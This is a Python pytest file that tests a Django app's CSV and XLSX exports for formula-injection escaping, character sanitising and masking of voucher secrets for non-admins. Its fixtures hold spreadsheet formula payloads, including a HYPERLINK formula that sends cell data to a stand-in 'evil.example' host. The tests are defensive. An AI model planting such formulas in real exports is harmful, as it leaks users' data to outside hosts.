"""Downloads are safe to open in a spreadsheet, never fail on a value, and hold secrets only for admins (§9)."""

import csv
import io
import uuid

import pytest
from django.template import RequestContext, Template
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.services.integrations import create_integration
from core.scoping import scopes_disabled
from grids.tables import SECRET_MASK
from incentives.models import IncentiveCode, Issuance, Voucher
from incentives.views import CodeListView, VoucherListView
from interactions.models import Interaction
from tests.grids.test_rendering import normalized

EVIL_EMAIL = '=HYPERLINK("https://evil.example/?d="&J2,"x")'
EVIL_REQUEST_ID = '=WEBSERVICE("https://evil.example/")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def xlsx_sheet(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def column(rows, header: str) -> list:
    index = [getattr(cell, "value", cell) for cell in rows[0]].index(header)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def evil_interaction(organization, admin_user, make_campaign, make_vault):
    campaign = make_campaign(organization, admin_user)
    with scopes_disabled():
        integration = create_integration(campaign, name="app").integration
        return Interaction.objects.create(
            organization=organization, campaign=campaign, integration=integration, kind="award", outcome="error",
            redeemer_email=EVIL_EMAIL, request_id=EVIL_REQUEST_ID, redeemer_external_id="@SUM(1)",
            message="-2+3\tx", error_code="+1", http_status=409, latency_ms=12)


def test_csv_cells_that_would_start_a_formula_are_text_and_numbers_stay_numbers(client, admin_user, evil_interaction):
    client.force_login(admin_user)
    rows = csv_rows(client.get(reverse("interactions:interaction-list") + "?format=csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert [cell for cell in rows[1] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert row["Redeemer email"] == "'" + EVIL_EMAIL
    assert row["Request id"] == "'" + EVIL_REQUEST_ID
    assert row["Redeemer external id"] == "'@SUM(1)"
    assert row["Message"] == "'-2+3\tx"
    assert row["Http status"] == "409" and row["Latency ms"] == "12"


def test_xlsx_cells_that_would_start_a_formula_are_strings_and_numbers_stay_numbers(client, admin_user,
                                                                                   evil_interaction):
    client.force_login(admin_user)
    sheet = xlsx_sheet(client.get(reverse("interactions:interaction-list") + "?format=xlsx"))
    headers = [cell.value for cell in sheet[1]]
    cells = dict(zip(headers, sheet[2], strict=True))
    assert [cell.coordinate for cell in sheet[2] if cell.data_type == "f"] == []
    for header, text in (("Redeemer email", EVIL_EMAIL), ("Request id", EVIL_REQUEST_ID),
                         ("Redeemer external id", "@SUM(1)"), ("Message", "-2+3\tx")):
        assert cells[header].value == text and cells[header].data_type == "s", header
    assert cells["Redeemer email"].quotePrefix
    assert cells["Http status"].value == 409 and cells["Http status"].data_type == "n"
    assert cells["Latency ms"].value == 12


def test_numbers_stay_numbers_and_text_starting_with_a_minus_is_text(client, organization, admin_user, make_vault):
    vault = make_vault(organization, vouchers=1)
    with scopes_disabled():
        vault.vouchers.update(vendor="-ACME")
    client.force_login(admin_user)
    url = reverse("incentives:voucher-list") + "?format="
    rows = csv_rows(client.get(url + "csv"))
    assert column(rows, "Vendor") == ["'-ACME"] and column(rows, "Amount") == ["10.00"]
    sheet = list(xlsx_sheet(client.get(url + "xlsx")).iter_rows())
    assert [c.value for c in column(sheet, "Amount")] == [10]
    assert [(c.value, c.data_type) for c in column(sheet, "Vendor")] == [("-ACME", "s")]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_characters_a_spreadsheet_cannot_hold_are_replaced(client, organization, admin_user, make_pool,
                                                           export_format):
    pool = make_pool(organization, codes=1)
    with scopes_disabled():
        Issuance.objects.create(code=pool.codes.get(), pool=pool, external_issuee_id="u\u000b1\x1f",
                                issuee_id=uuid.uuid4())
    client.force_login(admin_user)
    response = client.get(reverse("incentives:issuance-list") + f"?format={export_format}")
    if export_format == "csv":
        rows = csv_rows(response)
    else:
        rows = [[cell.value for cell in row] for row in xlsx_sheet(response).iter_rows()]
    assert column(rows, "External issuee id") == ["u\ufffd1\ufffd"]


@pytest.fixture
def secrets(organization, make_vault, make_pool):
    vault = make_vault(organization, vouchers=2)
    pool = make_pool(organization, codes=2, prefix="UNISSUED")
    with scopes_disabled():
        Voucher.objects.filter(vault=vault).update(pin="9876")
        issued = pool.codes.order_by("pk").first()
        IncentiveCode.objects.filter(pk=issued.pk).update(code="ISSUED-1", issued_count=1, issued_unique=1)
    return vault


def downloaded(client, grid: str) -> str:
    url = reverse(grid)
    csv_text = "\n".join(",".join(row) for row in csv_rows(client.get(url + "?format=csv")))
    sheet = xlsx_sheet(client.get(url + "?format=xlsx"))
    xlsx_text = "\n".join(",".join(str(c.value) for c in row) for row in sheet.iter_rows())
    return csv_text + "\n" + xlsx_text


def test_a_standard_user_sees_and_downloads_no_voucher_code_nor_pin(client, standard_user, secrets):
    client.force_login(standard_user)
    page = client.get(reverse("incentives:voucher-list")).content.decode()
    assert "V" + str(secrets.pk) + "-" not in page and "9876" not in page and SECRET_MASK in page
    text = downloaded(client, "incentives:voucher-list")
    assert "V" + str(secrets.pk) + "-" not in text and "9876" not in text
    assert "ACME" in text  # the rows are there, without their secrets


def test_an_admin_sees_and_downloads_voucher_codes(client, admin_user, secrets):
    client.force_login(admin_user)
    code = f"V{secrets.pk}-0"
    assert code in client.get(reverse("incentives:voucher-list")).content.decode()
    assert downloaded(client, "incentives:voucher-list").count(code) == 2  # in the CSV and in the XLSX


def test_a_standard_user_sees_and_downloads_only_issued_codes(client, standard_user, secrets):
    client.force_login(standard_user)
    page = client.get(reverse("incentives:code-list")).content.decode()
    assert "UNISSUED" not in page and "ISSUED-1" in page and SECRET_MASK in page
    text = downloaded(client, "incentives:code-list")
    assert "UNISSUED" not in text and text.count("ISSUED-1") == 2


def test_an_admin_sees_and_downloads_unissued_codes(client, admin_user, secrets):
    client.force_login(admin_user)
    assert "UNISSUED" in client.get(reverse("incentives:code-list")).content.decode()
    text = downloaded(client, "incentives:code-list")
    assert text.count("UNISSUED") == 2 and text.count("ISSUED-1") == 2


@pytest.mark.parametrize("view_class", [VoucherListView, CodeListView])
def test_masked_tables_are_written_as_django_tables2s_bootstrap5_template_writes_them(
        organization, standard_user, secrets, view_class):
    request = RequestFactory().get("/grid/")
    request.user, request.membership, request.organization = standard_user, standard_user.memberships.get(), \
        organization
    request.resolver_match = None
    view = view_class()
    view.setup(request)
    html = []
    with scopes_disabled():
        for template in ("django_tables2/bootstrap5.html", "grids/table.html"):
            table = view.build_grid().table
            table.paginate(per_page=50)
            node = Template('{% load django_tables2 %}{% render_table table "' + template + '" %}')
            html.append(normalized(node.render(RequestContext(request, {"table": table}))))
    assert html[0] == html[1] and SECRET_MASK in html[1]


def test_a_standard_user_sees_and_downloads_no_awarded_voucher_code_in_the_interactions(
    client, organization, admin_user, standard_user, make_campaign, secrets
):
    campaign = make_campaign(organization, admin_user)
    with scopes_disabled():
        voucher = Voucher.objects.filter(vault=secrets).first()
        Interaction.objects.create(organization=organization, campaign=campaign, kind="award", outcome="success",
                                   voucher=voucher, redeemer_email="ann@example.com", http_status=201)
    client.force_login(standard_user)
    page = client.get(reverse("interactions:interaction-list")).content.decode()
    assert voucher.code not in page and SECRET_MASK in page and "ann@example.com" in page
    assert voucher.code not in downloaded(client, "interactions:interaction-list")
    client.force_login(admin_user)
    assert voucher.code in client.get(reverse("interactions:interaction-list")).content.decode()
    assert downloaded(client, "interactions:interaction-list").count(voucher.code) == 2
